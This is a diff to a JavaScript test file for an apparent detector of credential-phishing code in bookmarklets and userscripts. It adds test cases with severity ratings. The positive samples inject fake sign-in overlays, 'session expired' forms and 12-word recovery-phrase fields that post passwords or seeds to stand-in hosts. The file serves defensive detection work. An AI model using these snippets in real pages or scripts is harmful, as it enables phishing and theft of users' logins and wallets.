@@ -31,6 +31,55 @@ const ok=document.createElement("button");document.body.append(ok);
 ok.onclick=()=>fetch("https://c.stranger.test/?p="+i.value)`,
 			),
 		],
+		[
+			"a frame that asks to sign in over the page, by a bookmarklet",
+			["medium 1"],
+			`(function(){const f=document.createElement("iframe");f.src="https://login.stranger.test/?site="+location.hostname;f.setAttribute("style","position:fixed;left:0;top:0;width:100vw;height:100vh");document.body.append(f)})()`,
+		],
+		[
+			"a sign-in of its own after the session, to a declared server",
+			["critical 9"],
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect keep.example.net"],
+				`setTimeout(()=>{const d=document.createElement("div");
+d.innerHTML='<form><p>Ihre Sitzung ist abgelaufen</p><input name="u"><input name="p" type="password"></form>';document.body.append(d);
+d.querySelector("form").onsubmit=(e)=>GM_xmlhttpRequest({method:"POST",url:"https://keep.example.net/",data:e.target.elements.p.value})},9e4)`,
+			),
+		],
+		[
+			"twelve words in fields of a form that goes elsewhere",
+			["critical 2"],
+			`(function(){const f=document.createElement("form");f.method="post";
+f.action="https://import.stranger.test/keys";
+const b=document.createElement("b");b.textContent="Clave: frase de recuperación";f.append(b);
+const g=document.createElement("div");for(let n=1;n<13;n++){const w=document.createElement("input");w.name="w"+n;g.appendChild(w)}
+f.appendChild(g);document.body.append(f)})()`,
+		],
+		[
+			"recovery words to a declared server",
+			["critical 8"],
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect sync.example.net"],
+				`const t=document.createElement("textarea");t.placeholder="Enter your 12-word recovery phrase";document.body.append(t);
+t.onchange=()=>GM_xmlhttpRequest({method:"POST",url:"https://sync.example.net/",data:t.value})`,
+			),
+		],
+		[
+			"a sign-in form in markup",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.body.insertAdjacentHTML("beforeend",'<form method=post action="https://skin.stranger.test/in"><input name=user><input name=pw type="password"></form>')`,
+			),
+		],
+		[
+			"a sign-in form by a library",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`$("#login").replaceWith($("<form method=post>").attr("action","https://skin.stranger.test/in").append('<input name=user>').append($('<input type="password" name="pw">')))`,
+			),
+		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(fakePrompt, code)).toEqual(expected);
 	});
@@ -48,6 +97,18 @@ ok.onclick=()=>fetch("https://c.stranger.test/?p="+i.value)`,
 			userscript(
 				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example", "grant GM_setValue"],
 				`const k=prompt("API key or password of Helper:");GM_xmlhttpRequest({url:"https://api.helper.example/",headers:{Authorization:k}})`,
+			),
+		],
+		[
+			"a search form of its own, in a script that knows the word password",
+			`(function(){const skip="input[type=password]";const f=document.createElement("form");f.action="https://search.example.org/";
+const q=document.createElement("input");q.name="q";q.title=skip;f.append(q);document.body.append(f)})()`,
+		],
+		[
+			"a sign-in form for the page's own site",
+			userscript(
+				["match https://shop.example/*"],
+				`document.body.insertAdjacentHTML("beforeend",'<form method=post action="/login"><input name=pw type="password"></form>')`,
 			),
 		],
 	])("leaves alone %s", (_title, code) => {
